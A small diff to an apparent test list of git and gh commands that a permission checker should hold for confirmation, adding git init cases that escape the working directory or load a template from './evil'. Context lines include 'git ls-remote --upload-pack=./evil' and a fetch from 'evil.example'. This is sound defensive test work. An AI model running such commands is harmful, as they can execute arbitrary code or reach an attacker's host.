@@ -236,6 +236,8 @@ ASKS = (
     ("git ls-remote", "git ls-remote --upload-pack=./evil origin"),
     ("git ls-remote", "git ls-remote https://evil.example/secret"),
     ("git ls-remote", "git ls-remote ./evil"),
+    ("git init", "git init ../../elsewhere"),
+    ("git init", "git init --template=./evil"),
     # The others.
     ("gh pr", "gh pr view 1 --web"),
     ("gh pr", "gh pr merge 1 --squash"),
